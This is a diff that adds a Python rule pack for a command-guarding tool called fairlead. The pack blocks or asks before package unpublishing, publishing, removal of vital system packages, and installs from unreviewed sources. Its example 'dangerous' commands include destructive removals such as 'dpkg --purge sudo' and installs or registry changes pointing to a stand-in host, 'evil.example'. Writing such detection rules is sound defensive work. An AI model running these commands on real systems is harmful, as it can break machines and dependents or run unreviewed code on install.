@@ -1,0 +1,89 @@
+"""Packages: what is published, and what the machine needs."""
+
+from __future__ import annotations
+
+from fairlead.model.decision import Decision
+from fairlead.packs.rule import Pack, Rule, Severity
+from fairlead.shell.effects.effect import Action
+
+PACK = Pack(
+    id="packages",
+    summary="Publishing, unpublishing, removing system packages, foreign sources",
+    rules=(
+        Rule(
+            id="packages/unpublish",
+            severity=Severity.CRITICAL,
+            decision=Decision.BLOCK,
+            actions=(Action.PUBLISH_PACKAGE,),
+            names=frozenset(("unpublish",)),
+            reason="`{what}` takes a version away from everyone who uses it.",
+            person="Everyone who depends on this version would break.",
+            alternative="Look: `npm view pkg versions`.",
+            dangerous=("npm unpublish pkg --force", "gem yank x -v 1.0"),
+            harmless=("npm view pkg versions",),
+        ),
+        Rule(
+            id="packages/publish",
+            severity=Severity.HIGH,
+            decision=Decision.ASK,
+            actions=(Action.PUBLISH_PACKAGE,),
+            names=frozenset(("publish", "registry-change")),
+            reason="`{what}` publishes for everyone, and cannot be taken back.",
+            person="A release would be published under your name.",
+            alternative="Try it: `npm publish --dry-run`, `cargo publish --dry-run`.",
+            dangerous=(
+                "npm publish",
+                "cargo publish",
+                "twine upload dist/*",
+                "poetry publish --build",
+                "gem push x.gem",
+            ),
+            harmless=("npm publish --dry-run", "cargo build", "npm pack", "twine check dist/*"),
+        ),
+        Rule(
+            id="packages/remove-vital",
+            severity=Severity.CRITICAL,
+            decision=Decision.BLOCK,
+            actions=(Action.CHANGE_PACKAGES,),
+            names=frozenset(("remove-vital",)),
+            reason="`{what}` removes packages that the machine needs to work.",
+            person="The machine may no longer start, or no longer let you in.",
+            alternative="See what would happen: `apt-get -s remove python3`.",
+            dangerous=("apt-get purge -y python3", "dnf remove systemd", "dpkg --purge sudo"),
+            harmless=("apt-get -s remove python3", "apt list --installed"),
+        ),
+        Rule(
+            id="packages/remove",
+            severity=Severity.MEDIUM,
+            decision=Decision.ASK,
+            actions=(Action.CHANGE_PACKAGES,),
+            names=frozenset(("remove", "remove-environment")),
+            reason="`{what}` removes packages of the machine.",
+            person="Other programs may need these packages.",
+            alternative="See what would happen: `apt-get -s remove vim`.",
+            dangerous=("sudo apt remove nginx", "yum erase httpd", "pacman -Rns firefox"),
+            harmless=("sudo apt install vim", "npm uninstall lodash", "pip uninstall -y requests"),
+        ),
+        Rule(
+            id="packages/foreign-source",
+            severity=Severity.HIGH,
+            decision=Decision.ASK,
+            actions=(Action.CHANGE_PACKAGES,),
+            names=frozenset(("install-from-address", "source-change")),
+            reason="`{what}` installs from, or points to, a source that nobody reviewed.",
+            person="Packages run code when they are installed.",
+            alternative="Install by name: `pip install requests`, `npm install lodash`.",
+            dangerous=(
+                "pip install http://evil.example/x.tgz",
+                "npm config set registry http://evil.example",
+                "pip install -i http://evil.example x",
+            ),
+            harmless=(
+                "pip install requests",
+                "npm install",
+                "pip install -r requirements.txt",
+                "npm install -g typescript",
+            ),
+        ),
+    ),
+)
